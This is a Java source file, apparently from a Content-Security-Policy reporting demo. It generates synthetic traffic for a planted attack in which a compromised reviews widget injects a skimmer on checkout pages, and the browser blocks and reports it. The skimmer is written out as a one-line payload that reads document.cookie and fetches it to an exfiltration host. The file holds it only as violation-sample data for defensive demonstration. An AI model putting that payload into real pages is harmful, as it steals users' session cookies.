package org.secheaders.domain.demo;

import static org.secheaders.domain.demo.ViolationSource.INLINE;
import static org.secheaders.domain.demo.ViolationSource.RANDOM_TOKEN;
import static org.secheaders.domain.demo.ViolationSource.TRUSTED_TYPES_SINK;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;

/**
 * The planted {@link PlantedPattern.AttackBurst}: a compromised reviews widget, trusted through
 * {@code 'strict-dynamic'}, injects a skimmer on the checkout pages. Its inline script, its fetch and
 * its image beacon to the exfiltration host are blocked and reported by every shopper who opens
 * the checkout while the bad widget build is served; the rate ramps up as caches pick the build up
 * and fades once it is pulled.
 */
final class AttackTraffic {
    private static final String WIDGET = "https://cdn.reviewsphere.example/widget/v3/embed.js";
    private static final double PEAK_VIEWS_PER_MINUTE = 16;
    private static final long RAMP_MINUTES = 4;
    private static final long FADE_MINUTES = 8;
    private static final double INLINE_RATE = 0.7;
    private static final double BEACON_RATE = 0.4;
    private static final double SINK_RATE = 0.3;

    private AttackTraffic() {
    }

    static List<PageView> generate(DemoSite site, PlantedPattern.AttackBurst burst, SplittableRandom random) {
        String host = burst.exfiltrationHost();
        String skimmer = "var c=document.cookie;fetch('//" + host + "/?c='+c)";
        ViolationSource fetch = ViolationSource.of("connect-src", "https://" + host + "/c?d=" + RANDOM_TOKEN, 1)
                .inFile(WIDGET, 1, 18342);
        ViolationSource inline = ViolationSource.of("script-src-elem", INLINE, 1).withSamples(skimmer)
                .inFile(WIDGET, 1, 18342);
        ViolationSource beacon = ViolationSource.of("img-src", "https://" + host + "/p.gif?c=" + RANDOM_TOKEN, 1)
                .inFile(WIDGET, 1, 18590);
        ViolationSource sink = ViolationSource.of("require-trusted-types-for", TRUSTED_TYPES_SINK, 1)
                .withSamples("Element innerHTML|<script>" + skimmer + "</script>")
                .inFile(WIDGET, 1, 19034).inBrowsers(BrowserFamily.CHROMIUM);

        List<PageView> views = new ArrayList<>();
        for (Instant at : PoissonArrivals.between(burst.start(), burst.end(),
                minute -> PEAK_VIEWS_PER_MINUTE * intensity(burst, minute), random)) {
            Visitor visitor = site.visitors().anyone(random);
            String path = burst.paths().get(random.nextInt(burst.paths().size()));
            List<ViolationSource> tripped = new ArrayList<>(List.of(fetch));
            addSometimes(tripped, inline, INLINE_RATE, random);
            addSometimes(tripped, beacon, BEACON_RATE, random);
            addSometimes(tripped, sink, SINK_RATE, random);
            views.add(new PageView(site, at, visitor, path, ViolationCause.ATTACK, tripped.stream()
                    .filter(source -> source.happensOn(path, visitor.browser().family()) && site.blocks(at, source))
                    .toList()));
        }
        return views;
    }

    /** Linear ramp-up, plateau, linear fade. */
    private static double intensity(PlantedPattern.AttackBurst burst, Instant minute) {
        long sinceStart = Duration.between(burst.start(), minute).toMinutes() + 1;
        long untilEnd = Duration.between(minute, burst.end()).toMinutes();
        return Math.min(1, Math.min(sinceStart / (double) RAMP_MINUTES, untilEnd / (double) FADE_MINUTES));
    }

    private static void addSometimes(List<ViolationSource> tripped, ViolationSource source, double rate,
                                     SplittableRandom random) {
        if (random.nextDouble() < rate) {
            tripped.add(source);
        }
    }
}
